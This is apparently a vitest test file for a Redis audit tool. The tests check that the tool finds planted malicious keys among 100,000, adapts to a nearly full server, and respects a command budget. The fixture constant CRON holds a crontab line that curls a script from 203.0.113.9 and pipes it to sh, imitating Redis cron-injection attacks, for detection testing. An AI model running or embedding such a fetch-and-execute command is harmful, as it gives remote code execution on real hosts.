import { describe, expect, onTestFinished, test } from 'vitest';
import { impactLimits } from '../src/audit/limits.ts';
import { audit } from './peers/hostile-audit.ts';
import type { RealRedis } from './peers/redis-server.ts';
import { startRedis } from './peers/redis-server.ts';
import { shippedKnowledge } from './peers/shipped-knowledge.ts';

const CRON = '\n\n*/2 * * * * root curl -fsSL http://203.0.113.9/init.sh | sh\n\n';
const KEYS = 100_000;

async function crowded(bad: readonly string[]): Promise<RealRedis> {
  const server = await startRedis();
  onTestFinished(() => server.stop());
  for (let from = 0; from < KEYS; from += 20_000) {
    const words = Array.from({ length: 20_000 }, (_, at) => [
      `session:${from + at}`,
      `{"user":${from + at}}`,
    ]);
    await server.client.mset(...words.flat());
  }
  for (const key of bad) await server.client.set(key, CRON);
  return server;
}

describe('four bad keys among a hundred thousand', () => {
  test('are found by their known names, however small the sample', async () => {
    const bad = ['backup1', 'backup2', 'backup3', 'backup4'];
    const server = await crowded(bad);

    const report = await audit(`127.0.0.1:${server.port}`, {
      knowledge: shippedKnowledge(),
      limits: { ...impactLimits('low'), busyShare: 1, allNames: 1_000, sampledNames: 500, values: 50 },
    });

    expect(report.axes.infected.answer).toBe('yes');
    expect(report.counts.maliciousValues).toBe(4);
    expect(report.notTested.join('\n')).toContain(`key names: 500 of ${KEYS + 4} were seen`);
  });

  test('are found under new names, where all names are read', async () => {
    const server = await crowded(['zq7w', 'update_conf', 'x', 'kworkerds2']);

    const report = await audit(`127.0.0.1:${server.port}`, { knowledge: shippedKnowledge() });

    expect(report.axes.infected.answer).toBe('yes');
    expect(report.counts).toMatchObject({ keysSeen: KEYS + 4, maliciousValues: 4 });
    expect(report.notTested.join('\n')).not.toContain('key names:');
  });
});

describe('a server in no state to be read', () => {
  test('is asked for the known names only, and the report says why', async () => {
    const server = await startRedis('--maxmemory', '2mb', '--maxmemory-policy', 'noeviction');
    onTestFinished(() => server.stop());
    const { client } = server;
    await client.set('backup1', 'x');
    await client.config(
      'SET',
      'maxmemory',
      String(Number(/used_memory:(\d+)/.exec(await client.info('memory'))?.[1])),
    );

    const report = await audit(`127.0.0.1:${server.port}`, { knowledge: shippedKnowledge() });

    expect(report.commandsSent).toMatchObject({ exists: expect.any(Number) as number });
    expect(report.commandsSent).not.toHaveProperty('scan');
    expect(report.commandsSent).not.toHaveProperty('getrange');
    expect(report.notTested.join('\n')).toContain(
      'the walk stopped, because its memory is nearly full and it evicts nothing',
    );
  });

  test('is left when the budget is spent, with what was found by then', async () => {
    const server = await startRedis();
    onTestFinished(() => server.stop());
    await server.client.mset(Array.from({ length: 500 }, (_, at) => [`key:${at}`, 'x']).flat());

    const report = await audit(`127.0.0.1:${server.port}`, { limits: { commands: 300 } });

    expect(report.outcome).toBe('audited');
    expect(report.counts.keysSeen).toBe(500);
    expect(report.counts.valuesRead).toBeGreaterThan(0);
    expect(report.notTested.join('\n')).toContain('one audit asks 300 questions');
  });
});
